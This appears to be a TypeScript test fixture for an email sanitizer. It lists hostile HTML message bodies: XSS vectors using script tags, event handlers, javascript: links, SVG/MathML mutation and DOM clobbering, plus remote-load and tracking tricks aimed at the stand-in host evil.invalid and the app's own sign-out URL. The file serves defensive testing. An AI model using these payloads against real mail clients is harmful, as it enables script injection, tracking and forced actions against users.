const evil = 'https://evil.invalid';

/** One body for each way in that mail programs have fallen for. The name is the message's subject. */
export const hostileBodies: Readonly<Record<string, string>> = {
  'script element': `<script>alert(1)</script><script src="${evil}/x.js"></script>`,
  'handlers': '<img src=x onerror=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>d</details><p onclick=alert(1) onfocus=alert(1) autofocus tabindex=0>p</p>',
  'javascript links': '<a href="javascript:alert(1)">a</a><a href=" jAvA&#x09;script:alert(1)">b</a><a href="data:text/html,<script>alert(1)</script>">c</a><a href="vbscript:x">d</a>',
  'svg': `<svg onload=alert(1)><script>alert(1)</script><image href="${evil}/s.png"/><a xlink:href="javascript:alert(1)"><text>x</text></a><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
  'mathml': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  'mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>',
  'comments': '<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>',
  'raw text': '<xmp><img src=x onerror=alert(1)></xmp><textarea></textarea><img src=x onerror=alert(1)><title></title><plaintextx>',
  'frames': `<iframe src="${evil}"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="${evil}/o"></object><embed src="${evil}/e"><applet code=x></applet><frameset><frame src="${evil}"></frameset>`,
  'head elements': `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}"><link rel=stylesheet href="${evil}/l.css"><link rel=prefetch href="${evil}/p"><link rel="dns-prefetch" href="//evil.invalid">`,
  'forms': `<form action="${evil}"><input name=a autofocus onfocus=alert(1)><input type=image src="${evil}/i.png"><button formaction="javascript:alert(1)">b</button></form><isindex action="javascript:alert(1)">`,
  'pictures': `<img src="${evil}/1.png"><img srcset="${evil}/2.png 2x"><picture><source srcset="${evil}/3.png"><img></picture><input type=image src="${evil}/4.png"><table background="${evil}/5.png"><tr><td background="${evil}/6.png">x</td></tr></table>`,
  'media': `<video poster="${evil}/v.png" src="${evil}/v.mp4" autoplay></video><audio src="${evil}/a.mp3" autoplay></audio><track src="${evil}/t.vtt">`,
  'style attributes': `<p style="background:url(${evil}/1.png)">1</p><p style="background:u\\72l('${evil}/2.png')">2</p><p style="list-style-image:image-set('${evil}/3.png' 1x);content:url(${evil}/4.png)">3</p><p style="width:expression(alert(1));behavior:url(x);-moz-binding:url(x)">4</p>`,
  'style sheets': `<style>@import "${evil}/1.css";@font-face{font-family:x;src:url(${evil}/f.woff)}p{background:url(${evil}/2.png);font-family:x}p::before{content:url(${evil}/3.png)}@media all{p{cursor:url(${evil}/4.cur),auto}}</style><p>styled</p>`,
  'style escapes': `<style>p{--u:url(${evil}/1.png);background:var(--u)}</style><style><!--</style><img src=x onerror=alert(1)>--></style><p style="background:\\75\\72\\6c(${evil}/2.png)">x</p>`,
  'leaving the frame': '<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div><a href="https://example.org" target=_top>top</a><p style="margin-top:-9999px;transform:scale(99)">far</p>',
  'clobbering': '<img name=body><a id=cookie></a><form id=document name=defaultView><input name=attributes><input name=parentNode></form><img id=createElement name=getElementById>',
  'cid pictures': '<img src="cid:../../../../api/sign-out"><img src="cid:nothing@here"><img src="cid:%2e%2e%2fx">',
  'own address': '<a href="/api/sign-out">out</a><a href="http://localhost/settings/reading">settings</a><img src="/api/sign-out"><link rel=stylesheet href="/x.css">',
  'popovers': '<button popovertarget=p commandfor=p command=show-modal>b</button><div id=p popover onbeforetoggle=alert(1)>x</div><dialog open oncancel=alert(1)>d</dialog>',
  'nothing closed': `${'<div><table><tr><td><font><b><i>'.repeat(300)}<img src=x onerror=alert(1)`.concat('>'),
  'slots': '<template shadowrootmode=open><script>alert(1)</script><slot></slot></template><slot onslotchange=alert(1)></slot>',
  'pings': `<a href="https://example.org" ping="${evil}/ping">p</a><area href="javascript:alert(1)" shape=default><map name=m><area href="javascript:alert(1)"></map>`,
};
